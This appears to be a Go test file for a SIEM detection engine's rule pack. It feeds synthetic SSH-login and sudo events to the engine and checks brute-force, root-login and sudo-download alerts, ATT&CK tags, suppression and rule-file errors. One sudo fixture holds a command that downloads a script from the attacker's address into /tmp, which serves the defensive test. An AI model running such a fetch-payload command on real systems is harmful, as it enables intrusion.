package rules

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vigil-siem/vigil/event"
)

var t0 = time.Date(2025, 12, 10, 9, 0, 0, 0, time.UTC)

// sshEvent builds an event shaped like the sshd parser's output.
func sshEvent(n int, at time.Time, ip, user, outcome string) event.Event {
	e := event.Event{
		"event.dataset":  "system.auth",
		"event.category": []any{"authentication"},
		"event.action":   "ssh_login",
		"event.outcome":  outcome,
		"source.ip":      ip,
		"user.name":      user,
		"host.name":      "web-01",
		"vigil.event_id": fmt.Sprintf("ev-%04d", n),
	}
	e.SetTime(at)
	return e
}

func loadPack(t *testing.T) []*Compiled {
	t.Helper()
	rules, errs := LoadFS(Pack(), ".")
	for _, err := range errs {
		t.Errorf("pack: %v", err)
	}
	if len(rules) == 0 {
		t.Fatal("the pack has no rules")
	}
	return rules
}

func run(e *Engine, evs []event.Event) map[string][]Alert {
	out := map[string][]Alert{}
	for _, ev := range evs {
		for _, a := range e.Process(ev) {
			out[a.Rule.ID] = append(out[a.Rule.ID], a)
		}
	}
	return out
}

func failures(n int, start time.Time, every time.Duration, ip string) []event.Event {
	var evs []event.Event
	for i := range n {
		evs = append(evs, sshEvent(i, start.Add(time.Duration(i)*every), ip, "root", "failure"))
	}
	return evs
}

func TestBruteForceNeedsTenFailuresWithinMaxspan(t *testing.T) {
	rules := loadPack(t)
	cases := []struct {
		name  string
		evs   []event.Event
		wantN int
	}{
		{"nine failures", failures(9, t0, 10*time.Second, "203.0.113.45"), 0},
		{"ten failures in 90s", failures(10, t0, 10*time.Second, "203.0.113.45"), 1},
		{"ten failures over 11 minutes", failures(10, t0, 73*time.Second, "203.0.113.45"), 0},
		// The second run of ten is suppressed (one alert per source an hour).
		{"twenty-five failures", failures(25, t0, time.Second, "203.0.113.45"), 1},
		{"ten failures from ten sources", func() []event.Event {
			var evs []event.Event
			for i := range 10 {
				evs = append(evs, sshEvent(i, t0.Add(time.Duration(i)*time.Second), fmt.Sprintf("198.51.100.%d", i), "root", "failure"))
			}
			return evs
		}(), 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := run(NewEngine(rules, EngineConfig{}), c.evs)["vigil.ssh.brute_force"]
			if len(got) != c.wantN {
				t.Fatalf("%d brute-force alerts, want %d", len(got), c.wantN)
			}
		})
	}
}

func TestBruteForceAlertCarriesEvidenceAndATTACK(t *testing.T) {
	alerts := run(NewEngine(loadPack(t), EngineConfig{}), failures(10, t0, 5*time.Second, "203.0.113.45"))["vigil.ssh.brute_force"]
	if len(alerts) != 1 {
		t.Fatalf("%d alerts, want 1", len(alerts))
	}
	a := alerts[0]
	d := a.Vigil.Alert
	if d.EventCount != 10 || len(d.Events) != 10 {
		t.Fatalf("alert holds %d events (count %d), want all 10", len(d.Events), d.EventCount)
	}
	for i, ev := range d.Events {
		if ev.ID() != fmt.Sprintf("ev-%04d", i) {
			t.Fatalf("event %d is %s: matched events must be in order", i, ev.ID())
		}
	}
	if len(d.GroupKeys) != 1 || d.GroupKeys[0] != (Entity{"source.ip", "203.0.113.45"}) || d.Entity != (Entity{"source.ip", "203.0.113.45"}) {
		t.Fatalf("group keys %v, entity %v", d.GroupKeys, d.Entity)
	}
	if !d.FirstSeen.Equal(t0) || !d.LastSeen.Equal(t0.Add(45*time.Second)) || !a.Timestamp.Equal(d.LastSeen) {
		t.Fatalf("first/last seen %v/%v, @timestamp %v", d.FirstSeen, d.LastSeen, a.Timestamp)
	}
	var techniques []string
	for _, th := range a.Threat {
		if th.Tactic.ID != "TA0006" {
			t.Errorf("tactic %+v, want TA0006 Credential Access", th.Tactic)
		}
		for _, te := range th.Technique {
			techniques = append(techniques, te.ID)
			for _, s := range te.Subtechnique {
				techniques = append(techniques, s.ID)
			}
		}
	}
	if strings.Join(techniques, ",") != "T1110,T1110.001" {
		t.Fatalf("techniques %v, want T1110 and T1110.001", techniques)
	}
	if a.Vigil.Alert.Severity != "medium" || a.Vigil.Alert.RiskScore != 47 {
		t.Fatalf("severity %s risk %d", a.Vigil.Alert.Severity, a.Vigil.Alert.RiskScore)
	}
}

func TestBruteForceThenSuccess(t *testing.T) {
	rules := loadPack(t)
	const ip = "198.51.100.23"
	success := func(n int, at time.Time, from string) event.Event { return sshEvent(n, at, from, "deploy", "success") }
	cases := []struct {
		name string
		evs  []event.Event
		want int
	}{
		{"12 failures then success", append(failures(12, t0, 5*time.Second, ip), success(99, t0.Add(2*time.Minute), ip)), 1},
		{"success from another source", append(failures(12, t0, 5*time.Second, ip), success(99, t0.Add(2*time.Minute), "10.0.0.5")), 0},
		{"success after maxspan", append(failures(12, t0, 5*time.Second, ip), success(99, t0.Add(11*time.Minute), ip)), 0},
		{"only 9 failures then success", append(failures(9, t0, 5*time.Second, ip), success(99, t0.Add(time.Minute), ip)), 0},
		{"success before the failures", append([]event.Event{success(99, t0, ip)}, failures(12, t0.Add(time.Second), 5*time.Second, ip)...), 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := run(NewEngine(rules, EngineConfig{}), c.evs)["vigil.ssh.brute_force_success"]
			if len(got) != c.want {
				t.Fatalf("%d alerts, want %d", len(got), c.want)
			}
			if c.want == 0 {
				return
			}
			evs := got[0].Vigil.Alert.Events
			// The most recent ten failures and the success, in order.
			if len(evs) != 11 || evs[0].ID() != "ev-0002" || evs[10].ID() != "ev-0099" {
				t.Fatalf("matched events %v", ids(evs))
			}
			if got[0].Fields["user.name"] != "deploy" || got[0].Fields["source.ip"] != ip {
				t.Fatalf("alert fields %v", got[0].Fields)
			}
		})
	}
}

func ids(evs []event.Event) []string {
	var out []string
	for _, e := range evs {
		out = append(out, e.ID())
	}
	return out
}

func TestFoldedRepeatsCountAsAttempts(t *testing.T) {
	evs := failures(5, t0, time.Second, "203.0.113.9")
	repeated := sshEvent(50, t0.Add(10*time.Second), "203.0.113.9", "root", "failure")
	repeated.Set(event.FieldRepeat, int64(5))
	evs = append(evs, repeated)
	got := run(NewEngine(loadPack(t), EngineConfig{}), evs)["vigil.ssh.brute_force"]
	if len(got) != 1 {
		t.Fatalf("5 failures + 1 line repeated 5 times: %d alerts, want 1", len(got))
	}
	if got[0].Vigil.Alert.EventCount != 10 || len(got[0].Vigil.Alert.Events) != 6 {
		t.Fatalf("count %d over %d events, want 10 over 6", got[0].Vigil.Alert.EventCount, len(got[0].Vigil.Alert.Events))
	}
}

func TestMatchRuleAndDeterministicIDs(t *testing.T) {
	evs := []event.Event{sshEvent(1, t0, "192.0.2.10", "root", "success"), sshEvent(2, t0, "192.0.2.10", "alice", "success")}
	a1 := run(NewEngine(loadPack(t), EngineConfig{}), evs)["vigil.ssh.root_login"]
	a2 := run(NewEngine(loadPack(t), EngineConfig{}), evs)["vigil.ssh.root_login"]
	if len(a1) != 1 {
		t.Fatalf("%d root-login alerts, want 1", len(a1))
	}
	if a1[0].Vigil.Alert.ID != a2[0].Vigil.Alert.ID || a1[0].Vigil.Alert.ID == "" {
		t.Fatalf("replayed detection got id %q, first run %q", a2[0].Vigil.Alert.ID, a1[0].Vigil.Alert.ID)
	}
}

func TestAlertJSONIsOneECSDocument(t *testing.T) {
	a := run(NewEngine(loadPack(t), EngineConfig{}), failures(10, t0, time.Second, "203.0.113.45"))["vigil.ssh.brute_force"][0]
	b, err := json.Marshal(a)
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if doc["source"].(map[string]any)["ip"] != "203.0.113.45" || doc["event"].(map[string]any)["kind"] != "alert" {
		t.Fatalf("alert document lacks top-level ECS fields: %s", b)
	}
	var back Alert
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if back.Vigil.Alert.ID != a.Vigil.Alert.ID || len(back.Vigil.Alert.Events) != 10 || back.Fields["source.ip"] != "203.0.113.45" {
		t.Fatalf("round trip lost data: %+v", back.Vigil.Alert)
	}
}

func TestBadRulesAreReportedWithFileAndLineAndOthersLoad(t *testing.T) {
	fsys := fstest.MapFS{
		"a-good.yaml": {Data: []byte("id: a\nname: A\nkind: match\nseverity: low\ncondition: user.name == \"x\"\n")},
		"bad.yaml": {Data: []byte(strings.Join([]string{
			"id: b",                             // 1
			"name: B",                           // 2
			"kind: sequence",                    // 3
			"severity: high",                    // 4
			"by: [source.ip]",                   // 5
			"maxspan: 5m",                       // 6
			"steps:",                            // 7
			"  - condition: user.name == \"x\"", // 8
			"  - condition: user.name ==",       // 9
			"---",
			"id: c",
			"name: C",
			"kind: match",
			"severity: urgent", // 14
			"condition: true",
			"---",
			"id: a", // 17: duplicate of good.yaml's
			"name: A again",
			"kind: match",
			"severity: low",
			"condition: true",
			"---",
			"id: d",
			"nmae: typo", // 24
		}, "\n"))},
	}
	rules, errs := LoadFS(fsys, ".")
	if len(rules) != 1 || rules[0].Rule.ID != "a" || rules[0].Rule.File != "a-good.yaml" {
		t.Fatalf("loaded %d rules, want only good.yaml's; errors: %v", len(rules), errs)
	}
	want := []string{"bad.yaml:9: rule b: steps[1].condition:", "bad.yaml:14: rule c: severity:", "bad.yaml:17: id \"a\" is already used at a-good.yaml:1", "bad.yaml:24:"}
	if len(errs) != len(want) {
		t.Fatalf("got %d errors, want %d: %v", len(errs), len(want), errs)
	}
	for i, w := range want {
		if !strings.HasPrefix(errs[i].Error(), w) {
			t.Errorf("error %d = %q, want prefix %q", i, errs[i], w)
		}
	}
}

func sudoEvent(n int, at time.Time, host, user, cmd string) event.Event {
	e := event.Event{
		"event.dataset": "system.auth", "event.category": []any{"process"}, "event.action": "sudo",
		"event.outcome": "success", "user.name": user, "host.name": host, "process.command_line": cmd,
		"vigil.event_id": fmt.Sprintf("ev-%04d", n),
	}
	e.SetTime(at)
	return e
}

func TestActionsAfterALoginAreAttributedToItsSource(t *testing.T) {
	login := sshEvent(1, t0, "198.51.100.23", "deploy", "success")
	otherHostLogin := sshEvent(2, t0, "192.0.2.7", "deploy", "success")
	otherHostLogin["host.name"] = "db-01"
	wget := func(n int, at time.Time) event.Event {
		return sudoEvent(n, at, "web-01", "deploy", "/usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh")
	}
	cases := []struct {
		name       string
		evs        []event.Event
		wantEntity Entity
	}{
		{"after a login on the host", []event.Event{login, wget(3, t0.Add(time.Minute))}, Entity{"source.ip", "198.51.100.23"}},
		{"without a login", []event.Event{wget(3, t0)}, Entity{"user.name", "deploy"}},
		{"login on another host only", []event.Event{otherHostLogin, wget(3, t0.Add(time.Minute))}, Entity{"user.name", "deploy"}},
		{"long after the login", []event.Event{login, wget(3, t0.Add(9*time.Hour))}, Entity{"user.name", "deploy"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := run(NewEngine(loadPack(t), EngineConfig{}), c.evs)["vigil.sudo.download"]
			if len(got) != 1 {
				t.Fatalf("%d sudo download alerts, want 1", len(got))
			}
			d := got[0].Vigil.Alert
			if d.Entity != c.wantEntity {
				t.Fatalf("entity %v, want %v", d.Entity, c.wantEntity)
			}
			if len(d.GroupKeys) != 1 || d.GroupKeys[0] != (Entity{"user.name", "deploy"}) {
				t.Fatalf("group keys %v must stay the rule's", d.GroupKeys)
			}
			if (d.Session != nil) != (c.wantEntity.Field == "source.ip") {
				t.Fatalf("session %+v", d.Session)
			}
			if d.Session != nil && d.Session.LoginEventID != "ev-0001" {
				t.Fatalf("session points at login %s", d.Session.LoginEventID)
			}
		})
	}
}

func TestBruteForceRepeatsAreCountedOnTheOneAlert(t *testing.T) {
	e := NewEngine(loadPack(t), EngineConfig{})
	got := run(e, failures(35, t0, time.Second, "203.0.113.45"))["vigil.ssh.brute_force"]
	for _, a := range e.Flush() {
		if a.Rule.ID == "vigil.ssh.brute_force" {
			got = append(got, a)
		}
	}
	if len(got) != 2 || got[0].Vigil.Alert.ID != got[1].Vigil.Alert.ID {
		t.Fatalf("want the alert and its update with the same id, got %d alerts", len(got))
	}
	if n := got[1].Vigil.Alert.SuppressedCount; n != 2 {
		t.Fatalf("suppressed count %d, want 2 (failures 11-20 and 21-30)", n)
	}
}
